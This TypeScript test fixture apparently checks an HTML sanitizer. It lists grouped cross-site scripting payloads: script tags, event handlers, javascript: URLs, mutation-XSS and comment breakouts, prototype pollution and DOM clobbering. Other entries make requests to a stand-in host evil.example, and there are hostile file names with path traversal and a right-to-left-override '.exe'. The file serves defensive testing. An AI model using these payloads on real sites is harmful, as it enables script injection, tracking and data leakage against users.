/**
 * Texts that run a script, send a request or lead away wherever a page takes them for markup, by the way they try. The
 * families are those of the OWASP evasion sheet and of the bugs that sanitizers had; every text is written for this test.
 */
export const FAMILIES: Readonly<Record<string, readonly string[]>> = {
  "plain scripts": [
    "<script>alert(1)</script>",
    "<ScRiPt >alert(2)</sCrIpT\t>",
    "<script/x>alert(3)</script/y>",
    "<script src='https://evil.example/4.js'></script>",
    "<script type=module>alert(5)</script>",
    "<script>alert`6`</script>",
    "<script>onerror=alert;throw 7</script>",
    "<scr<script>ipt>alert(8)</scr</script>ipt>",
  ],
  "event handlers": [
    "<img src=x onerror=alert(10)>",
    "<img src=x onerror\n=\n'alert(11)'>",
    "<img/src=x/onerror=alert(12)>",
    "<img src=x oneonerrorrror=alert(13)>",
    "<svg onload=alert(14)>",
    "<body onload=alert(15) onpageshow=alert(15)>",
    "<details open ontoggle=alert(16)><summary>x</summary></details>",
    "<input autofocus onfocus=alert(17)>",
    "<video><source onerror=alert(18)></video>",
    "<audio src=x onerror=alert(19)></audio>",
    "<marquee onstart=alert(20)>x</marquee>",
    "<style onload=alert(21)></style>",
    "<link rel=stylesheet href='data:text/css,' onload=alert(22)>",
    "<div style='animation-name:x' onanimationstart=alert(23)><style>@keyframes x{}</style></div>",
    "<select autofocus onfocus=alert(24)></select>",
    "<dialog open oncancel=alert(25)></dialog><button popovertarget=p25>x</button><p popover id=p25 onbeforetoggle=alert(25)>x</p>",
    "<div style=content-visibility:auto oncontentvisibilityautostatechange=alert(26)>x</div>",
  ],
  "addresses that run": [
    "<a href='javascript:alert(30)' autofocus onfocus=alert(30)>x</a>",
    "<a href='jav&#x09;ascript:alert(31)'>x</a>",
    "<a href=' &#14; javascript:alert(32)'>x</a>",
    "<a href='JaVaScRiPt&colon;alert(33)'>x</a>",
    "<a href='data:text/html,<script>alert(34)</script>'>x</a>",
    "<a href='vbscript:msgbox(35)'>x</a>",
    "<form action='javascript:alert(36)'><button>x</button></form>",
    "<form id=f37></form><button form=f37 formaction='javascript:alert(37)'>x</button>",
    "<iframe src='javascript:alert(38)'></iframe>",
    "<iframe srcdoc='<script>parent.alert(39);alert(39)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(40)</script>'></object>",
    "<embed src='data:text/html,<script>alert(41)</script>'>",
    "<svg><a xlink:href='javascript:alert(42)'><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(43)></svg>#x'/></svg>",
    "<math><maction actiontype=statusline xlink:href='javascript:alert(44)'>x</maction></math>",
    "javascript:alert(45)",
  ],
  "other namespaces": [
    "<svg><script>alert(50)</script></svg>",
    "<svg><script href='data:text/javascript,alert(51)'/></svg>",
    "<svg><animate onbegin=alert(52) attributeName=x dur=1s></svg>",
    "<svg><a><animate attributeName=href values='javascript:alert(53)'/><text y=20>x</text></a></svg>",
    "<svg><foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload=alert(54)></foreignObject></svg>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(55)></annotation-xml></math>",
    "<svg><desc><img src=x onerror=alert(56)></desc></svg>",
    "<svg><![CDATA[><img src=x onerror=alert(57)>]]></svg>",
    "<svg><title><style><img src=x onerror=alert(58)></style></title></svg>",
  ],
  mutations: [
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(60)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(61)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(62)>'>",
    "<math></br><mtext><style><a title='</style><img src onerror=alert(63)>'></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(64)>'>",
    "<noembed><p title='</noembed><img src=x onerror=alert(65)>'></noembed>",
    "<noframes><p title='</noframes><img src=x onerror=alert(66)>'></noframes>",
    "<xmp><p title='</xmp><img src=x onerror=alert(67)>'></xmp>",
    "<textarea><p title='</textarea><img src=x onerror=alert(68)>'></textarea>",
    "<title><p title='</title><img src=x onerror=alert(69)>'></title>",
    "<select><template><style></select><img src=x onerror=alert(70)></style></template></select>",
    "<table><td><svg><table><style><!--</style><img title='--><img src=x onerror=alert(71)>'></table>",
    "<option><style></option></select><b><img src=x onerror=alert(72)></style></option>",
    "<div><template shadowrootmode=open><img src=x onerror=alert(73)><script>alert(73)</script></template></div>",
    "<template><script>alert(74)</script></template>",
    "<p><svg><style>*{}</style><desc><p></desc></svg><img src=x onerror=alert(75)></p>",
    `${"<div>".repeat(520)}<img src=x onerror=alert(76)>`,
    "<plaintext><img src=x onerror=alert(77)>",
  ],
  "comments and ends": [
    "<!--<script>alert(80)</script>-->",
    "<!--><img src=x onerror=alert(81)>-->",
    "<!--!><img src=x onerror=alert(82)>--!><img src=x onerror=alert(82)>",
    "<!-- <script> </script><script>alert(83)</script>",
    "<!-- --!><img src=x onerror=alert(84)> -->",
    "<![if !IE]><img src=x onerror=alert(85)><![endif]>",
    "<?xml version='1.0'?><?pi ><img src=x onerror=alert(86)>?>",
    "</script><script>alert(87)</script>",
    '"><script>alert(88)</script>',
    "'-alert(89)-'",
    "`;alert(90);//",
    "]]><img src=x onerror=alert(91)>",
    "</style><img src=x onerror=alert(92)>",
    "\\u003cimg src=x onerror=alert(93)\\u003e",
    "&lt;img src=x onerror=alert(94)&gt;",
    "\u2028alert(95)\u2029",
    "<img src=x onerror=alert(96)\u0000>",
    "+ADw-script+AD4-alert(97)+ADw-/script+AD4-",
    "{{constructor.constructor('alert(98)')()}}",
    '{"__proto__":{"innerHTML":"<img src=x onerror=alert(99)>"}}',
  ],
  "requests and ways out": [
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<link rel=dns-prefetch href='https://evil.example/'><link rel=preconnect href='https://evil.example/'>",
    "<link rel=prefetch href='https://evil.example/p'><link rel=preload as=image href='https://evil.example/p.png'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline' *\">",
    "<meta http-equiv=x-dns-prefetch-control content=on><a href='https://evil.example/a'>x</a>",
    "<style>@import 'https://evil.example/x.css';*{background:url(https://evil.example/b.png)}</style>",
    "<p style=\"background:url('https://evil.example/s.png');list-style:url(https://evil.example/l.png)\">x</p>",
    "<img src='https://evil.example/pixel.png'><img srcset='https://evil.example/s.png 2x'>",
    "<picture><source srcset='https://evil.example/p.png'><img></picture>",
    "<video poster='https://evil.example/v.png' src='https://evil.example/v.mp4' autoplay></video>",
    "<body background='https://evil.example/bg.png'><table background='https://evil.example/t.png'>",
    "<input type=image src='https://evil.example/i.png'>",
    "<svg><image href='https://evil.example/i.svg'/><filter><feImage href='https://evil.example/f.svg'/></filter></svg>",
    "<iframe src='https://evil.example/frame'></iframe><object data='https://evil.example/o'></object>",
    "<a ping='https://evil.example/ping' href='https://evil.example/next'>x</a>",
    "<form action='https://evil.example/form'><input name=q><button autofocus>x</button></form>",
    '<script type=speculationrules>{"prefetch":[{"urls":["https://evil.example/s"]}]}</script>',
    "<html manifest='https://evil.example/m'><xml src='https://evil.example/x'></xml>",
  ],
  clobbering: [
    "<form id=winnow-setup><input name=textContent value='{}'></form>",
    "<p id=app>x</p><a id=location href='https://evil.example/'></a><img name=document>",
    "<form name=getElementById></form><form name=querySelector></form><object name=createElement></object>",
  ],
};

/** All of them. */
export const PAYLOADS: readonly string[] = Object.values(FAMILIES).flat();

const MARKUP = /[&<"]/g;
const ENTITIES: Readonly<Record<string, string>> = { "&": "&amp;", "<": "&lt;", '"': "&quot;" };

function escaped(text: string): string {
  return text.replace(MARKUP, (sign) => ENTITIES[sign] ?? "");
}

/** A page that says these payloads: as plain words in its text, title and names, and raw in its markup, each in turn. */
export function hostilePage(payloads: readonly string[] = PAYLOADS): string {
  const words = payloads.map(escaped);
  const raw = payloads.map((text) => `<section>${text}</section>`).join("\n");
  return `<!doctype html><html lang="en"><head><title>${words.join(" ")}</title>
<link rel="canonical" href="https://hostile.example/page"><meta name="author" content="${words[0]}"></head><body>
<nav class="menu ${words[0]}">${words.map((text) => `<a href="javascript:alert(999)">${text}</a>`).join(" ")}</nav>
<main><h1>${words[0]}</h1>${words.map((text) => `<p>The long report says on this day, in its own words: ${text}, and then it goes on for a while.</p>`).join("")}</main>
<div hidden>${words.join(" ")}</div>
${raw}</body></html>`;
}

/** The same as a page of plain text. */
export function hostileText(payloads: readonly string[] = PAYLOADS): string {
  return payloads
    .map((text) => `The long report says on this day, in its own words: ${text}, and goes on.`)
    .join("\n\n");
}

/** Names that a file may have on some system, and that no page may stumble over. */
export const HOSTILE_NAMES: readonly string[] = [
  "<img src=x onerror=alert(201)>.html",
  '"><svg onload=alert(202)>.html',
  "javascript:alert(203).html",
  "__proto__.html",
  "constructor",
  "winnow-setup.html",
  "#page=x&y?z=1.html",
  "100%25 %3Cb%3E + space.html",
  "..%2f..%2fup.html",
  "gnp\u202Elmth.exe",
  "line\nfeed.html",
  "null-like \u0001.html",
  "e\u0301le\u0300ve ünïcödé 文書 🌾.html",
  `${"long-".repeat(40)}name.html`,
];
